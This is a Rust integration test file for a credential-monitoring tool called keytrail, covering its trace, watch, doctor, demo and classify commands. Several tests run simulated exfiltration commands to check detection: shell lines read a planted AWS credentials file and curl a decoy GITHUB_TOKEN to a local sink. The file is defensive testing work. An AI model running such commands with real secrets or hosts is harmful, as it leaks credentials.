//! The command line: plain words, right exit statuses, and what `trace`, `doctor`, `demo` and `watch` promise.

use crate::{
    agent::{Agent, Setup},
    command::{Act, act, sh},
    events::{Ask as _, Event, Signal, Tier, of_kind, parse_lines},
    machine::{Scratch, kernel, keytrail, patience, turn, wait_for},
    plant,
    server::Sink,
    service, trace,
};
use std::{
    collections::BTreeSet,
    fs,
    path::Path,
    time::{Duration, Instant},
};

/// The signals of the mission.
pub const SIGNALS: &[&str] = &[
    "exec",
    "fork",
    "exit",
    "file_open",
    "file_read",
    "connect",
    "tcp_send",
    "tls_write",
    "unix_send",
    "udp_send",
];

/// `keytrail watch` where no agent is: status 3, and where it looked.
pub fn watch_without_an_agent() {
    let scratch = Scratch::new();
    let socket = scratch.join("none.sock");
    let watch = || {
        act(keytrail())
            .arg("watch")
            .arg("--address")
            .arg(format!("unix:{}", socket.display()))
            .run()
    };
    for left in [false, true] {
        if left {
            // A socket whose agent has died.
            drop(std::os::unix::net::UnixListener::bind(&socket).unwrap());
        }
        let done = watch();
        assert_eq!(done.code(), 3, "{}", done.stderr_text());
        let words = done.plain_words();
        assert!(words.contains(socket.to_str().unwrap()), "{words}");
        assert!(
            words.contains("keytrail agent"),
            "what to do about it: {words}"
        );
        assert!(done.stdout.is_empty());
    }
}

/// A second agent on the same socket: status 4; the first one goes on.
pub fn second_agent() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let done = act(keytrail())
        .arg("agent")
        .arg("--listen")
        .arg(agent.address())
        .arg("--state-dir")
        .arg(scratch.join("other-state"))
        .run();
    assert_eq!(done.code(), 4, "{}", done.stderr_text());
    let words = done.plain_words();
    assert!(words.contains(agent.socket().to_str().unwrap()), "{words}");
    agent.sentinel();
}

/// The status of `trace` is that of the command, as a shell shows it.
pub fn trace_exit_statuses() {
    let _turn = turn();
    let scratch = Scratch::new();
    let plain = scratch.join("plain");
    fs::write(&plain, "no program").unwrap();
    for (words, status) in [
        (vec!["true"], 0),
        (vec!["sh", "-c", "exit 7"], 7),
        (vec!["sh", "-c", "kill -TERM $$"], 143),
        (vec!["sh", "-c", "kill -KILL $$"], 137),
        (vec!["/no/such/command"], 127),
        (vec!["no-such-command-anywhere"], 127),
        (vec![plain.to_str().unwrap()], 126),
        (vec!["/usr"], 126),
    ] {
        let traced = trace::run(&scratch, trace::command(&scratch, &[]).args(&words));
        let done = &traced.done;
        assert_eq!(done.code(), status, "{words:?}: {}", done.stderr_text());
        assert!(done.stdout.is_empty());
        if matches!(status, 126 | 127) {
            let said = done.plain_words();
            assert!(said.contains(words[0]), "{said}");
        }
        assert!(!done.stderr_text().contains("panicked"));
    }
}

/// stdin, stdout and stderr of the command are its own.
pub fn trace_leaves_the_streams_alone() {
    let _turn = turn();
    let scratch = Scratch::new();
    let mut bytes = plant::bytes(200_000);
    bytes.extend_from_slice(b"hi\n");
    let act = trace::command(&scratch, &[])
        .arg("cat")
        .stdin(bytes.clone());
    let traced = trace::run(&scratch, act);
    assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
    assert!(
        traced.done.stdout == bytes,
        "stdout is not what cat was given"
    );

    let act = trace::command(&scratch, &[])
        .args(["sh", "-c", "echo out; echo err >&2"])
        .env("GITHUB_TOKEN", plant::github().value);
    let traced = trace::run(&scratch, act);
    assert_eq!(traced.done.stdout_text(), "out\n");
    assert!(traced.done.stderr_text().contains("err\n"));
}

/// What a trace shows; once more where the machine was too busy for it: that is honest beside others, and not what this is
/// about.
fn unless_busy(once: impl Fn() -> Vec<String>) -> Vec<String> {
    const BUSY: [&str; 3] = ["inspection_timeout", "records_left", "file_unreadable"];
    for _ in 0..4 {
        let lines = once();
        let busy = |l: &String| BUSY.iter().any(|gap| l.contains(gap));
        let lost = |l: &String| l.contains(" lost; coverage") && !l.contains(", 0 lost;");
        if !lines.iter().any(|l| busy(l) || lost(l)) {
            return lines;
        }
        eprintln!("once more: {lines:#?}");
    }
    once()
}

/// What the same command comes to in each shape: an exposure, sh's (cat only inherits it), and a read.
fn columns(lines: &[String]) -> Vec<String> {
    const HEADINGS: [&str; 6] = ["TIME", "WHO", "PROCESS", "ACTION", "CREDENTIAL", "WHERE"];
    let words: Vec<&str> = lines[0].split_whitespace().collect();
    assert_eq!(words, HEADINGS, "{lines:#?}");
    let end = lines
        .iter()
        .position(|l| l.starts_with("-- trace of sh with 4 arguments (exit status 5, "))
        .unwrap_or_else(|| panic!("no summary in {lines:#?}"));
    assert!(
        lines[end..]
            .iter()
            .any(|l| l.starts_with("-- 2 events, 2 credentials, 0 lost")),
        "{lines:#?}"
    );
    lines[1..end].to_vec()
}

fn both_are_shown(events: &[String], file: &Path) {
    assert_eq!(events.len(), 2, "{events:#?}");
    for (line, words) in events.iter().zip([
        ["sh[", "has in env", "github-token", "env GITHUB_TOKEN"],
        ["cat[", "read file", "aws-", file.to_str().unwrap()],
    ]) {
        let mut rest = line.as_str();
        for word in words {
            let (_, after) = rest
                .split_once(word)
                .unwrap_or_else(|| panic!("no {word} in its place: {line}"));
            rest = after;
        }
    }
}

fn wide_lines_say_all(events: &[String]) {
    for line in events {
        for word in [
            " fingerprint=kt1:",
            " grade=observed",
            " hook=",
            " exe=/",
            " argv=",
            " parents=",
        ] {
            assert!(line.contains(word), "no{word} in {line}");
        }
    }
}

/// Nothing but events, each whole.
fn expected(events: &[Event]) {
    let kinds: Vec<_> = events.iter().map(|e| e.what()).collect();
    let all = crate::events::list(events);
    assert_eq!(kinds, ["credential_exposed", "credential_read"], "{all}");
}

/// Events go to stderr in the shape that is asked for; stdout is the command's alone. With a file as well they go
/// there too, and with nothing but a file only there.
pub fn trace_shows_events() {
    let _turn = turn();
    let scratch = Scratch::new();
    let token = plant::github();
    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
    let once = |act: Act| {
        let done = act
            .args([
                "sh",
                "-c",
                "cat \"$1\" >/dev/null; echo out; echo err >&2; exit 5",
                "sh",
            ])
            .arg(&file)
            .env("GITHUB_TOKEN", &token.value)
            .run();
        let said = done.stderr_text();
        assert_eq!(done.code(), 5, "{said}");
        assert_eq!(done.stdout_text(), "out\n");
        // The command's own word is there once and whole, between lines.
        let lines: Vec<String> = said.lines().map(str::to_owned).collect();
        assert_eq!(lines.iter().filter(|l| *l == "err").count(), 1, "{said}");
        assert!(!said.contains(&token.value[4..]) && !said.contains(&planted.value));
        lines.into_iter().filter(|l| l != "err").collect::<Vec<_>>()
    };
    let traced = |act: &dyn Fn() -> Act| unless_busy(|| once(act()));
    let is_all = |events: &[String]| both_are_shown(events, &file);
    for options in [&[][..], &["-o", "compact"]] {
        let events = columns(&traced(&|| trace::shown(&scratch, options)));
        is_all(&events);
        for line in &events {
            assert!(
                !line.contains("fingerprint=") && !line.contains("exe="),
                "{line}"
            );
        }
    }
    let events = columns(&traced(&|| trace::shown(&scratch, &["-o", "wide"])));
    is_all(&events);
    wide_lines_say_all(&events);
    assert!(events[1].contains(&format!(" id={}", planted.identifier.as_deref().unwrap())));

    let events = parse_lines(&traced(&|| trace::shown(&scratch, &["-o", "json"])).join("\n"));
    expected(&events);
    assert!(events[1].shows(&planted) && Path::new(events[1].path()) == file);

    let stored = || parse_lines(&fs::read_to_string(trace::file(&scratch)).unwrap());
    let events = parse_lines(&traced(&|| trace::command(&scratch, &["-o", "json"])).join("\n"));
    expected(&events);
    assert_eq!(
        events,
        stored(),
        "the file and the terminal tell different stories"
    );
    is_all(&columns(&traced(&|| {
        trace::command(&scratch, &["-o", "compact"])
    })));
    expected(&stored());

    let lines = traced(&|| trace::command(&scratch, &[]));
    expected(&stored());
    assert!(
        lines[0].starts_with("-- trace of sh "),
        "events beside the file: {lines:#?}"
    );
    assert!(
        lines
            .iter()
            .all(|l| !l.starts_with("TIME") && !l.contains("read file"))
    );
}

/// What happens forty generations below the command is its doing all the same.
pub fn trace_follows_forty_generations() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let token = plant::github();
    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
    let script = scratch.join("down.sh");
    fs::write(
        &script,
        "if [ $1 -gt 0 ]; then sh \"$0\" $(($1 - 1)) \"$2\" \"$3\"; else cat \"$2\" >/dev/null
curl -s -d t=$GITHUB_TOKEN \"$3\"; fi; :\n",
    )
    .unwrap();
    let act = || {
        trace::command(&scratch, &[])
            .arg("sh")
            .arg(&script)
            .arg("40")
            .arg(&file)
            .arg(format!("http://127.0.0.1:{}/in", sink.port))
            .env("GITHUB_TOKEN", &token.value)
    };
    let traced = trace::run_in_time(&scratch, act);
    assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
    assert!(sink.has(&token.value));
    let all = crate::events::list(&traced.events);
    let read = of_kind(&traced.events, "credential_read");
    assert_eq!(read.len(), 1, "{all}");
    assert!(read[0].shows(&planted), "{}", read[0].brief());
    let ancestors = &read[0].process.as_ref().unwrap().ancestors;
    assert!(ancestors.iter().all(|a| a.pid != traced.done.pid), "{all}");
    let sent = of_kind(&traced.events, "credential_sent");
    assert!(sent.iter().any(|e| e.grade() == "observed"), "{all}");
}

/// What `trace` says of a command that uses credentials: the file is complete when it ends, the summary names what
/// was seen and where it went, and nobody else's processes are in it.
pub fn trace_follows_descendants() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = Sink::http();
    let token = plant::github();
    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
    // Somebody else, meanwhile.
    let other = sh("while :; do true & sleep 0.05; done")
        .env("NPM_TOKEN", plant::npm().value)
        .spawn();
    let act = || {
        trace::command(&scratch, &[])
        .args(["sh", "-c"])
        .arg("(cat \"$2\" >/dev/null; sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"; :); exit 3")
        .arg("sh")
        .arg(sink.port.to_string())
        .arg(&file)
        .env("GITHUB_TOKEN", &token.value)
    };
    let traced = trace::run_in_time(&scratch, act);
    let summary = traced.done.stderr_text();
    assert_eq!(traced.done.code(), 3, "{summary}");
    assert!(sink.has(&token.value));
    let events = &traced.events;
    let all = crate::events::list(events);

    let read = of_kind(events, "credential_read");
    assert_eq!(read.len(), 1, "{all}");
    assert!(read[0].shows(&planted), "{}", read[0].brief());
    let observed: Vec<_> = of_kind(events, "credential_sent")
        .into_iter()
        .filter(|e| e.grade() == "observed")
        .collect();
    assert_eq!(observed.len(), 1, "{all}");
    assert_eq!(
        observed[0].peer(),
        ("127.0.0.1", u32::from(sink.port)),
        "{all}"
    );
    assert!(
        !events
            .iter()
            .any(|e| e.in_tree(other.pid()) || e.env_name() == "NPM_TOKEN"),
        "somebody else's process:\n{all}"
    );
    for word in [
        planted.identifier.as_deref().unwrap(),
        &format!("127.0.0.1:{}", sink.port),
        "GITHUB_TOKEN",
    ] {
        assert!(
            summary.contains(word),
            "no {word} in the summary:\n{summary}"
        );
    }
    for text in [&summary, &fs::read_to_string(&traced.file).unwrap()] {
        assert!(!text.contains(&token.value[4..]) && !text.contains(&planted.value));
    }
}

/// A command of a few milliseconds is seen whole.
pub fn trace_of_a_short_command() {
    let _turn = turn();
    let scratch = Scratch::new();
    let act = || {
        trace::command(&scratch, &[])
            .arg("true")
            .env("GITHUB_TOKEN", plant::github().value)
    };
    let traced = trace::run_in_time(&scratch, act);
    assert_eq!(traced.done.code(), 0);
    let exposed = of_kind(&traced.events, "credential_exposed");
    assert_eq!(exposed.len(), 1, "{}", crate::events::list(&traced.events));
    assert!(exposed[0].executable().ends_with("/true"));
}

/// `keytrail watch -o json` gives the same events as the agent itself, and its filters filter.
pub fn watch_shows_the_events() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let watch = agent.watch("json");
    let mut only = agent
        .client("watch")
        .args(["-o", "json", "--kind", "sent"])
        .spawn_reading(&scratch.join("sent.stderr"));
    let sink = Sink::http();
    let mut done = None;
    // It has no sign of its own that it is subscribed.
    wait_for("a send in what is filtered", patience(60), || {
        let send = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
            .arg(sink.port.to_string())
            .env("GITHUB_TOKEN", plant::github().value)
            .run()
            .ok();
        agent.expect("the send", send.pid, |e| {
            e.is("credential_sent") && e.in_tree(send.pid)
        });
        done = Some(send);
        std::thread::sleep(Duration::from_millis(100));
        only.written().contains(&b'\n').then_some(())
    });
    let done = done.unwrap();
    agent.wait_idle();
    let last = agent.sentinel();
    let id = |e: &Event| e.id.as_ref().unwrap().sequence;
    let shown = wait_for("the sentinel in the output", patience(5), || {
        let text = String::from_utf8(watch.written()).unwrap();
        text.ends_with('\n')
            .then(|| parse_lines(&text))
            .filter(|events| events.iter().any(|e| id(e) == id(&last)))
    });
    let first = id(&shown[0]);
    let printed: Vec<_> = agent
        .events()
        .into_iter()
        .filter(|e| !e.what().starts_with("process_") && (first..=id(&last)).contains(&id(e)))
        .collect();
    let shown: Vec<_> = shown.into_iter().filter(|e| id(e) <= id(&last)).collect();
    assert_eq!(shown, printed, "watch and agent tell different stories");
    // The last one: after others have shown that it is subscribed, this one has to be there.
    let sent = wait_for("the last send in what is filtered", patience(60), || {
        let text = String::from_utf8(only.written()).unwrap();
        let whole = text.rfind('\n').map_or("", |end| &text[..=end]);
        let sent = parse_lines(whole);
        sent.iter().any(|e| e.in_tree(done.pid)).then_some(sent)
    });
    assert!(sent.iter().all(|e| e.is("credential_sent")));

    // When the agent goes, watch goes, in plain words.
    agent.stop();
    let status = only.wait(patience(10), "keytrail watch after the agent's end");
    assert!(status.code().is_some());
    let words = fs::read_to_string(scratch.join("sent.stderr")).unwrap();
    assert!(!words.contains("panicked"), "{words}");
}

/// Events in a file, and somebody who reads them: that the agent's own words are read is no news, or reading would
/// never come to an end.
pub fn reading_the_events_makes_none() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Setup::new(&scratch).start();
    let file = scratch.join("events.jsonl");
    let mut watch = sh("exec \"$1\" watch --address \"$2\" -o json >\"$3\"")
        .arg(keytrail())
        .arg(agent.address())
        .arg(&file)
        .spawn();
    for _ in 0..5 {
        agent.sentinel();
    }
    let follower = sh("tail --pid=$$ -n +1 -f \"$1\" & while :; do cat \"$1\"; sleep 0.05; done")
        .arg(&file)
        .spawn();
    for _ in 0..5 {
        agent.sentinel();
    }
    agent.wait_idle();
    let about = agent.tree(follower.pid());
    super::count(&about, 0, "events about reading events");
    let length = fs::metadata(&file).unwrap().len();
    assert!(length > 1000, "nothing was written: {length}");
    watch.end();
}

/// `keytrail doctor`: every signal has a hook here, and what is refused is named with a reason.
#[expect(clippy::too_many_lines, reason = "one story, in its order")]
pub fn doctor_names_every_signal() {
    let _turn = turn();
    let scratch = Scratch::new();
    for running in [false, true] {
        let agent = running.then(|| Setup::new(&scratch).start());
        let address = agent.as_ref().map_or_else(
            || format!("unix:{}", scratch.join("none").display()).into(),
            Agent::address,
        );
        let doctor = |format: &str| {
            let done = act(keytrail())
                .arg("doctor")
                .arg("--address")
                .arg(&address)
                .args(["-o", format])
                .env("HOME", scratch.path())
                .run();
            // That no agent answers is not well, whatever could be tried.
            assert!(
                matches!((running, done.code()), (true, 0 | 1) | (false, 3)),
                "{}: {}",
                done.code(),
                done.stderr_text()
            );
            done
        };
        let json = doctor("json").stdout_text();
        let status: keytrail_proto::v1::GetStatusResponse =
            serde_json::from_str(&json).unwrap_or_else(|e| panic!("{e}: {json}"));
        let named: BTreeSet<&str> = status
            .signals
            .iter()
            .map(|s| Signal::word_of(s.signal))
            .collect();
        for signal in SIGNALS {
            assert!(named.contains(signal), "no {signal} in {named:?}");
        }
        // What no hook tells is said.
        let send = status
            .signals
            .iter()
            .find(|s| s.signal == Signal::UdpSend.number());
        let note = &send.expect("udp_send").note;
        assert!(note.contains("QUIC"), "{note}");
        for signal in &status.signals {
            // Kernels before 6.3 may report neither.
            let of_messages = [Signal::UnixSend, Signal::UdpSend].map(Signal::number);
            if of_messages.contains(&signal.signal) && kernel() < (6, 3) && signal.hook.is_empty() {
                assert!(!signal.refused.is_empty(), "{signal:?}");
                continue;
            }
            assert!(
                !signal.hook.is_empty(),
                "{} has no hook: {json}",
                Signal::word_of(signal.signal)
            );
            assert!(
                matches!(Tier::word_of(signal.tier), "base" | "fentry"),
                "{signal:?}"
            );
            for refused in &signal.refused {
                assert!(
                    !refused.hook.is_empty() && !refused.reason.is_empty(),
                    "{refused:?}"
                );
            }
        }
        assert!(
            status
                .libraries
                .iter()
                .any(|l| l.path.contains("libssl") && l.covered),
            "{:?}",
            status.libraries
        );
        for library in status.libraries.iter().filter(|l| !l.covered) {
            assert!(!library.reason.is_empty(), "{library:?}");
        }
        let done = doctor("table");
        let table = done.stdout_text();
        if running {
            service::is_well(&done);
        }
        // Kernels without the better tier refuse hooks, and there always is a process that began before the agent.
        let verdicts: &[&str] = if running {
            &["All is well.", "Well, within limits: ", "NOT WELL: "]
        } else {
            &["NOT WELL: no agent answers on unix:"]
        };
        assert!(verdicts.iter().any(|v| table.starts_with(v)), "{table}");
        for signal in SIGNALS {
            assert!(table.contains(signal), "no {signal} in:\n{table}");
        }
    }
}

/// Signals that profit are on the better tier, or why they are not is reported. Debian's 6.12 takes trampolines: there it
/// must be the better one.
pub fn doctor_names_the_better_tier() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Setup::new(&scratch).start();
    let json = agent.client("doctor").args(["-o", "json"]).run();
    let json = json.stdout_text();
    let status: keytrail_proto::v1::GetStatusResponse = serde_json::from_str(&json).unwrap();
    let release = fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    let takes = release.starts_with("6.12.");
    let mut better = false;
    for (name, hook) in [
        ("file_read", "fexit:security_file_permission"),
        ("tcp_send", "fentry:tcp_sendmsg_locked"),
    ] {
        let signal = status
            .signals
            .iter()
            .find(|s| Signal::word_of(s.signal) == name)
            .unwrap();
        if takes || signal.refused.iter().all(|r| r.hook != hook) {
            assert_eq!(signal.tier, Tier::Fentry.number(), "{release}: {signal:?}");
            assert!(signal.hook.contains(hook), "{signal:?}");
            better |= name == "file_read";
        } else {
            assert_eq!(signal.tier, Tier::Base.number(), "{signal:?}");
        }
    }
    // The records come from there, too.
    let (_, file) = plant::aws_credentials(agent.home());
    std::thread::sleep(patience(1));
    let done = sh("cat \"$1\"; :").arg(&file).run().ok();
    let read = agent.expect("the read", done.pid, |e| {
        e.is("credential_read") && e.in_tree(done.pid)
    });
    let by = &read.evidence.as_ref().unwrap().hook;
    assert_eq!(by.contains("security_file_permission"), better, "{by}");
}

/// `keytrail demo`: a decoy credential is seen to leave over TLS within seconds.
pub fn demo_shows_a_send() {
    let _turn = turn();
    let scratch = Scratch::new();
    let demo = |format: &str| {
        let started = Instant::now();
        let done = act(keytrail())
            .args(["demo", "-o", format])
            .env("HOME", scratch.path())
            .run();
        let took = started.elapsed();
        assert_eq!(done.code(), 0, "{}", done.stderr_text());
        assert!(took < patience(10), "the demo took {took:?}");
        done
    };
    let events = parse_lines(&demo("json").stdout_text());
    let all = crate::events::list(&events);
    assert!(
        events
            .iter()
            .any(|e| e.is("credential_sent") && e.grade() == "observed" && e.channel() == "tls"),
        "{all}"
    );
    assert!(
        events
            .iter()
            .any(|e| e.is("credential_read") || e.is("credential_exposed")),
        "{all}"
    );
    let shown = demo("compact");
    assert!(shown.stdout_text().contains("127.0.0.1") || shown.stdout_text().contains("localhost"));
}

/// `keytrail classify --jsonl` in a pipe: an answer a line, by id.
pub fn classify_answers_line_by_line() {
    let token = plant::github();
    let lines = [
        serde_json::json!({"id": "one", "text": format!("token={}", token.value)}),
        serde_json::json!({"id": "two", "text": "nothing here"}),
    ];
    let input: String = lines.iter().map(|l| format!("{l}\n")).collect();
    let done = act(keytrail())
        .args(["classify", "--jsonl", "-"])
        .stdin(input)
        .run()
        .ok();
    let text = done.stdout_text();
    let answers: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(answers.len(), 2, "{text}");
    assert_eq!(answers[0]["id"], "one");
    assert_eq!(
        answers[0]["credentials"][0]["kind"], "github-token",
        "{text}"
    );
    assert_eq!(
        answers[1]["credentials"].as_array().map(Vec::len),
        Some(0),
        "{text}"
    );
    assert!(!text.contains(&token.value[4..]), "{text}");
}

/// Who comes late is told what was before, once, and then what comes; what cannot be meant is refused.
pub fn watch_begins_with_what_was() {
    let _turn = turn();
    let scratch = Scratch::new();
    // Held since before the agent: reported when it started, to nobody.
    let token = plant::github();
    let mut holder = sh("while read line; do COPIED_TOKEN=\"$GITHUB_TOKEN\" env true; done")
        .env("GITHUB_TOKEN", &token.value)
        .spawn_listening();
    let holding = holder.pid();
    let agent = Agent::start(&scratch);
    agent.expect("the exposure", holding, |e| {
        e.is("credential_exposed") && e.pid() == holding
    });
    agent.wait_idle();
    let id = |e: &Event| e.id.as_ref().unwrap().sequence;
    let pid = holding.to_string();
    let late = |args: &[&str]| {
        agent
            .client("watch")
            .args(["-o", "json", "--pid", &pid])
            .args(args.iter().copied())
            .spawn_reading(&scratch.join("late.stderr"))
    };
    let reported = |process: &crate::command::Background| {
        let text = String::from_utf8(process.written()).unwrap();
        let whole = text.rfind('\n').map_or("", |end| &text[..=end]);
        parse_lines(whole)
            .into_iter()
            .filter(|e| e.in_tree(holding))
            .collect::<Vec<_>>()
    };
    let all = late(&["--since", "all"]);
    let minutes = late(&["--since", "10m"]);
    let one = late(&["--last", "1", "--kind", "exposed"]);
    let none = late(&["--since", "0s"]);
    for process in [&all, &minutes, &one] {
        wait_for("the exposure of before", patience(5), || {
            reported(process)
                .iter()
                .any(|e| e.is("credential_exposed") && e.pid() == holding)
                .then_some(())
        });
    }
    holder.say("go");
    agent.sentinel();
    for process in [&all, &minutes, &one, &none] {
        wait_for("the exposure of now", patience(5), || {
            reported(process)
                .iter()
                .any(|e| e.pid() != holding)
                .then_some(())
        });
    }
    agent.wait_idle();
    let expected: Vec<u64> = agent
        .tree(holding)
        .iter()
        .filter(|e| !e.what().starts_with("process_"))
        .map(id)
        .collect();
    let ids = |process| reported(process).iter().map(id).collect::<Vec<_>>();
    assert_eq!(ids(&all), expected);
    assert_eq!(ids(&minutes), expected);
    assert!(reported(&none).iter().all(|e| e.pid() != holding));
    for args in [
        &["--since", "5 minutes"][..],
        &["--last", "-1"],
        &["--credential", "github-["],
        &["--credential", ""],
        &["--kind", "red"],
        &["--min-confidence", "2"],
    ] {
        let refused = agent.client("watch").args(args.iter().copied()).run();
        let words = refused.stderr_text();
        assert_eq!(refused.status.code(), Some(2), "{args:?}: {words}");
        assert!(!words.contains("panicked") && words.len() > 20, "{words}");
    }
    drop(holder);
}

/// What keytrail itself inspects (an inventory, a classification, the engine of a trace) is nobody's use of a
/// credential for another agent; and a program that is only called keytrail is somebody.
pub fn own_doings_are_no_uses() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Setup::new(&scratch).start();
    let (_, file) = plant::aws_credentials(agent.home());
    std::thread::sleep(patience(1));
    let state = scratch.join("other-state");
    let keytrail_with = |args: &[&str]| {
        act(keytrail())
            .args(args)
            .env("HOME", agent.home())
            .env("KEYTRAIL_STATE_DIR", &state)
            .run()
    };
    let home = agent.home().to_str().unwrap();
    keytrail_with(&["inventory", "--no-processes", "--root", home]).ok();
    keytrail_with(&["classify", file.to_str().unwrap()]).ok();
    keytrail_with(&["trace", "--", "true"]).ok();
    let doctor = keytrail_with(&["doctor", "--address", "unix:/nonexistent/keytrail.sock"]);
    assert_eq!(doctor.code(), 3, "{}", doctor.stderr_text());
    // The same by a copy of cat with that name: the name proves nothing.
    let other = scratch.make("bin").join("keytrail");
    fs::copy("/bin/cat", &other).unwrap();
    let done = act(&other).arg(&file).run().ok();
    agent.expect("the read by the one with the name", done.pid, |e| {
        e.is("credential_read") && e.pid() == done.pid
    });
    let ours = keytrail();
    let ours: Vec<Event> = agent
        .events()
        .into_iter()
        .filter(|e| e.credential.is_some() && Path::new(e.executable()) == ours)
        .filter(|e| !e.is("credential_exposed"))
        .collect();
    assert!(
        ours.is_empty(),
        "{:#?}",
        ours.iter().map(|e| e.brief()).collect::<Vec<_>>()
    );
    let status = agent.client("doctor").args(["-o", "json"]).run();
    let status: keytrail_proto::v1::GetStatusResponse =
        serde_json::from_str(&status.stdout_text()).unwrap();
    let left_out = status.counters.unwrap_or_default().records;
    assert!(
        left_out.get("own_left_out").is_some_and(|n| *n > 0),
        "{left_out:?}"
    );
}
